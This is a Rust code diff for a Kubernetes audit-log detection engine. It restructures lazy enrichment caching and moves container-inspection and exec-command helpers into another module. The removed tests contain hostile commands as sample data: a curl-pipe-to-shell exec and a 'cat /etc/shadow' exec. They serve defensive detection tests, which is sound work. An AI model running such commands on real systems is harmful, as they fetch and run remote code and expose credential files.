@@ -8,6 +8,8 @@ use serde_json::Value;
 
 use crate::event::AuditEvent;
 
+use super::objects::RequestView;
+
 /// The event as a playbook sees it: shared, with request/response objects and
 /// enrichment converted only when a script first touches them.
 #[derive(Clone)]
@@ -21,8 +23,14 @@ struct EvInner {
     response: OnceLock<Option<Value>>,
     request_dyn: OnceLock<Dynamic>,
     response_dyn: OnceLock<Dynamic>,
-    enrichment: OnceLock<Map>,
+    /// The typed parts of the request object (`None`: no object, or one the view cannot read).
+    view: OnceLock<Option<RequestView>>,
+    /// identity, network, asset, baseline: each converted on first use.
+    enrichment: [OnceLock<Dynamic>; 4],
 }
+
+/// The enrichment parts a script reads as `e.identity`, `e.network`, `e.asset`, `e.baseline`.
+const PARTS: [&str; 4] = ["identity", "network", "asset", "baseline"];
 
 impl Ev {
     pub fn new(ev: AuditEvent) -> Self {
@@ -33,7 +41,8 @@ impl Ev {
             response: OnceLock::new(),
             request_dyn: OnceLock::new(),
             response_dyn: OnceLock::new(),
-            enrichment: OnceLock::new(),
+            view: OnceLock::new(),
+            enrichment: Default::default(),
         }))
     }
 
@@ -67,7 +76,7 @@ impl Ev {
             .as_ref()
     }
 
-    fn response(&self) -> Option<&Value> {
+    pub(super) fn response(&self) -> Option<&Value> {
         self.0
             .response
             .get_or_init(|| {
@@ -80,109 +89,56 @@ impl Ev {
             .as_ref()
     }
 
-    fn enrichment_part(&self, part: &str) -> Dynamic {
-        let map = self.0.enrichment.get_or_init(|| {
-            self.0
-                .ev
-                .enrichment
-                .as_deref()
-                .and_then(|e| rhai::serde::to_dynamic(e).ok())
-                .and_then(|d| d.try_cast::<Map>())
-                .unwrap_or_default()
-        });
-        map.get(part)
-            .cloned()
-            .unwrap_or_else(|| Dynamic::from(Map::new()))
+    /// The request object as parsed so far: `Some` only once a helper needed all of it.
+    pub(super) fn request_if_parsed(&self) -> Option<Option<&Value>> {
+        self.0.request.get().map(Option::as_ref)
+    }
+
+    /// The typed view of the request object, parsed on first use and shared by every playbook.
+    pub fn view(&self) -> Option<&RequestView> {
+        self.0
+            .view
+            .get_or_init(|| {
+                let raw = self.0.ev.request_object.as_ref()?;
+                RequestView::parse(raw.get())
+            })
+            .as_ref()
+    }
+
+    fn enrichment_part(&self, part: usize) -> Dynamic {
+        self.0.enrichment[part]
+            .get_or_init(|| {
+                let Some(e) = self.0.ev.enrichment.as_deref() else {
+                    return Dynamic::from(Map::new());
+                };
+                let converted = match part {
+                    0 => rhai::serde::to_dynamic(&e.identity),
+                    1 => rhai::serde::to_dynamic(&e.network),
+                    2 => rhai::serde::to_dynamic(&e.asset),
+                    _ => match &e.baseline {
+                        Some(b) => rhai::serde::to_dynamic(b),
+                        None => Ok(Dynamic::from(Map::new())),
+                    },
+                };
+                converted.unwrap_or_else(|_| Dynamic::from(Map::new()))
+            })
+            .clone()
     }
 }
 
-fn json_dyn(v: Option<&Value>) -> Dynamic {
+pub(super) fn json_dyn(v: Option<&Value>) -> Dynamic {
     v.and_then(|v| rhai::serde::to_dynamic(v).ok())
         .unwrap_or(Dynamic::UNIT)
 }
 
-fn opt(s: Option<&str>) -> Dynamic {
+pub(super) fn opt(s: Option<&str>) -> Dynamic {
     s.map_or(Dynamic::UNIT, |s| Dynamic::from(s.to_owned()))
 }
 
-fn strings<'a>(it: impl IntoIterator<Item = &'a str>) -> Array {
+pub(super) fn strings<'a>(it: impl IntoIterator<Item = &'a str>) -> Array {
     it.into_iter()
         .map(|s| Dynamic::from(s.to_owned()))
         .collect()
-}
-
-/// The pod spec inside a request object: a Pod, a workload's template, or a CronJob's job template.
-pub fn pod_spec(obj: &Value) -> Option<&Value> {
-    let spec = obj.get("spec")?;
-    if spec.get("containers").is_some() {
-        return Some(spec);
-    }
-    spec.pointer("/template/spec")
-        .or_else(|| spec.pointer("/jobTemplate/spec/template/spec"))
-}
-
-fn containers(obj: &Value) -> Vec<&Value> {
-    let Some(spec) = pod_spec(obj) else {
-        return Vec::new();
-    };
-    ["initContainers", "containers", "ephemeralContainers"]
-        .iter()
-        .filter_map(|k| spec.get(*k).and_then(Value::as_array))
-        .flatten()
-        .collect()
-}
-
-/// The command of an exec request, decoded from the requestURI's `command=` parameters.
-pub fn exec_command(uri: &str) -> String {
-    let query = uri.split_once('?').map_or("", |(_, q)| q);
-    query
-        .split('&')
-        .filter_map(|kv| kv.strip_prefix("command="))
-        .map(percent_decode)
-        .collect::<Vec<_>>()
-        .join(" ")
-}
-
-/// The command of an exec request: the requestURI's `command=` parameters, else the request
-/// object's `command` (AKS and plain events may carry a `PodExecOptions`; GKE's `protoPayload.request`).
-pub fn exec_command_of(e: &Ev) -> String {
-    let from_uri = exec_command(&e.event().request_uri);
-    if !from_uri.is_empty() {
-        return from_uri;
-    }
-    match e.request().and_then(|r| r.get("command")) {
-        Some(Value::Array(parts)) => parts
-            .iter()
-            .filter_map(Value::as_str)
-            .collect::<Vec<_>>()
-            .join(" "),
-        Some(Value::String(s)) => s.clone(),
-        _ => String::new(),
-    }
-}
-
-fn percent_decode(s: &str) -> String {
-    let b = s.as_bytes();
-    let mut out = Vec::with_capacity(b.len());
-    let mut i = 0;
-    while i < b.len() {
-        match b[i] {
-            b'+' => out.push(b' '),
-            b'%' if i + 2 < b.len() => {
-                match u8::from_str_radix(std::str::from_utf8(&b[i + 1..i + 3]).unwrap_or("zz"), 16)
-                {
-                    Ok(v) => {
-                        out.push(v);
-                        i += 2;
-                    }
-                    Err(_) => out.push(b'%'),
-                }
-            }
-            c => out.push(c),
-        }
-        i += 1;
-    }
-    String::from_utf8_lossy(&out).into_owned()
 }
 
 /// Registers the event type, its fields, the helpers, lists and response constructors.
@@ -210,7 +166,12 @@ impl Lists {
         global.chain(local)
     }
 
-    fn contains(&self, cluster: &str, name: &str, value: &str) -> bool {
+    /// Whether list `name` is defined, globally or for some cluster.
+    pub(super) fn defined(&self, name: &str) -> bool {
+        self.global.contains_key(name) || self.per_cluster.values().any(|c| c.contains_key(name))
+    }
+
+    pub(super) fn contains(&self, cluster: &str, name: &str, value: &str) -> bool {
         self.global.get(name).is_some_and(|s| s.contains(value))
             || self
                 .per_cluster
@@ -338,100 +299,13 @@ pub fn register(engine: &mut Engine, lists: Arc<Lists>, state: Arc<super::state_
             .get_or_init(|| json_dyn(e.response()))
             .clone()
     });
-    for part in ["identity", "network", "asset", "baseline"] {
-        engine.register_get(part, move |e: &mut Ev| e.enrichment_part(part));
+    for (i, part) in PARTS.into_iter().enumerate() {
+        engine.register_get(part, move |e: &mut Ev| e.enrichment_part(i));
     }
-    engine.register_fn("pointer", |e: &mut Ev, ptr: &str| -> Dynamic {
-        let (root, rest) = match ptr.strip_prefix("/responseObject") {
-            Some(rest) => (e.response(), rest),
-            None => (
-                e.request(),
-                ptr.strip_prefix("/requestObject").unwrap_or(ptr),
-            ),
-        };
-        json_dyn(root.and_then(|v| {
-            if rest.is_empty() {
-                Some(v)
-            } else {
-                v.pointer(rest)
-            }
-        }))
-    });
-    // Helpers over the request object.
     engine.register_fn("is_system_user", |e: &mut Ev| {
         crate::enrich::identity::is_system_user(&e.event().user.username)
     });
-    engine.register_fn("container_images", |e: &mut Ev| {
-        strings(
-            e.request()
-                .map(containers)
-                .unwrap_or_default()
-                .iter()
-                .filter_map(|c| c["image"].as_str()),
-        )
-    });
-    engine.register_fn("has_privileged_container", |e: &mut Ev| {
-        e.request()
-            .map(containers)
-            .unwrap_or_default()
-            .iter()
-            .any(|c| {
-                c.pointer("/securityContext/privileged")
-                    .and_then(Value::as_bool)
-                    == Some(true)
-            })
-    });
-    engine.register_fn("host_path_mounts", |e: &mut Ev| {
-        let vols = e
-            .request()
-            .and_then(pod_spec)
-            .and_then(|s| s["volumes"].as_array().cloned())
-            .unwrap_or_default();
-        strings(
-            vols.iter()
-                .filter_map(|v| v.pointer("/hostPath/path").and_then(Value::as_str)),
-        )
-    });
-    engine.register_fn("added_capabilities", |e: &mut Ev| {
-        let mut caps: Vec<&str> = Vec::new();
-        for c in e.request().map(containers).unwrap_or_default() {
-            if let Some(add) = c
-                .pointer("/securityContext/capabilities/add")
-                .and_then(Value::as_array)
-            {
-                caps.extend(add.iter().filter_map(Value::as_str));
-            }
-        }
-        strings(caps)
-    });
-    engine.register_fn("host_namespaces", |e: &mut Ev| {
-        let spec = e.request().and_then(pod_spec);
-        let on = |k: &str| spec.and_then(|s| s[k].as_bool()).unwrap_or(false);
-        let mut out = Vec::new();
-        for (key, name) in [
-            ("hostNetwork", "network"),
-            ("hostPID", "pid"),
-            ("hostIPC", "ipc"),
-        ] {
-            if on(key) {
-                out.push(name);
-            }
-        }
-        strings(out)
-    });
-    engine.register_fn("binding_subjects", |e: &mut Ev| {
-        json_dyn(e.request().and_then(|r| r.get("subjects")))
-    });
-    engine.register_fn("binding_role", |e: &mut Ev| {
-        opt(e
-            .request()
-            .and_then(|r| r.pointer("/roleRef/name"))
-            .and_then(Value::as_str))
-    });
-    engine.register_fn("role_rules", |e: &mut Ev| {
-        json_dyn(e.request().and_then(|r| r.get("rules")))
-    });
-    engine.register_fn("exec_command", |e: &mut Ev| exec_command_of(e));
+    super::host_objects::register(engine);
     // Lists from config, so users tune without editing scripts; a cluster's own entries extend them.
     let l = lists.clone();
     engine.register_fn("in_list", move |name: &str, value: &str| {
@@ -497,49 +371,4 @@ fn response<const N: usize>(kind: &str, params: [(&str, &str); N]) -> Map {
         m.insert(k.into(), Dynamic::from(v.to_owned()));
     }
     m
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn decodes_exec_commands_from_the_request_uri() {
-        let uri = "/api/v1/namespaces/kube-system/pods/etcd-0/exec?command=sh&command=-c&command=curl+http%3A%2F%2Fx%2Fy+%7C+sh&container=etcd&stdin=true";
-        assert_eq!(exec_command(uri), "sh -c curl http://x/y | sh");
-        assert_eq!(exec_command("/api/v1/pods"), "");
-    }
-
-    #[test]
-    fn falls_back_to_the_request_objects_command() {
-        let line = serde_json::json!({
-            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "auditID": "x",
-            "stage": "ResponseComplete", "verb": "create",
-            "requestURI": "/api/v1/namespaces/web/pods/api-0/exec",
-            "user": {"username": "alice@example.com"},
-            "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "web", "name": "api-0"},
-            "requestObject": {"kind": "PodExecOptions", "apiVersion": "v1", "command": ["sh", "-c", "cat /etc/shadow"], "stdin": true}
-        })
-        .to_string();
-        let ev = crate::event::decode_record(line.as_bytes(), &Default::default())
-            .events
-            .remove(0);
-        assert_eq!(exec_command_of(&Ev::new(ev)), "sh -c cat /etc/shadow");
-    }
-
-    #[test]
-    fn finds_pod_specs_in_pods_workloads_and_cronjobs() {
-        let pod = serde_json::json!({"spec": {"containers": [{"image": "a"}]}});
-        let dep = serde_json::json!({"spec": {"template": {"spec": {"containers": [{"image": "b"}], "initContainers": [{"image": "i"}]}}}});
-        let cron = serde_json::json!({"spec": {"jobTemplate": {"spec": {"template": {"spec": {"containers": [{"image": "c"}]}}}}}});
-        let images = |v: &Value| {
-            containers(v)
-                .iter()
-                .map(|c| c["image"].as_str().unwrap().to_owned())
-                .collect::<Vec<_>>()
-        };
-        assert_eq!(images(&pod), ["a"]);
-        assert_eq!(images(&dep), ["i", "b"]);
-        assert_eq!(images(&cron), ["c"]);
-    }
 }
